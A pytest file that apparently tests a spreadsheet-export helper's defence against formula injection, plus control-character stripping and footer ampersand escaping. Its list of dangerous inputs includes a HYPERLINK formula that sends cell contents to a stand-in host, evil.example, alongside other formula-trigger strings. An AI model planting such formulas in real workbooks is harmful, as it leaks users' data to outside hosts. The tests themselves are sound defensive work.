"""apps.core.spreadsheets.write_cell: user text never becomes a formula, an error code or a broken workbook."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from apps.core.spreadsheets import header_footer_text, write_cell

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def round_trip(values: list) -> object:
    book = Workbook()
    for row, value in enumerate(values, start=1):
        write_cell(book.active, row, 1, value)
    out = io.BytesIO()
    book.save(out)
    return load_workbook(io.BytesIO(out.getvalue())).active


@pytest.mark.parametrize("value", DANGEROUS)
def test_text_that_could_start_a_formula_is_written_as_the_text_typed(value):
    cell = round_trip([value])["A1"]
    # (A carriage return may come back as a line feed, depending on the XML parser openpyxl reads with — lxml keeps
    # it: the text is otherwise exactly what was typed.)
    assert cell.data_type == "s" and cell.value.replace("\r", "\n") == value.replace("\r", "\n")
    assert cell.quotePrefix is (value[0] in "=+-@\t\r")


def test_ordinary_values_keep_their_type_and_control_characters_are_dropped():
    sheet = round_trip(["Sở Nội vụ", 12, None, "a\x00b\x0bc"])
    assert [sheet[f"A{n}"].value for n in (1, 2, 3, 4)] == ["Sở Nội vụ", 12, None, "abc"]
    assert sheet["A2"].data_type == "n" and not sheet["A1"].quotePrefix


def test_an_ampersand_in_a_footer_is_printed_not_read_as_a_code():
    assert header_footer_text("Sở TT&TT &P") == "Sở TT&&TT &&P"
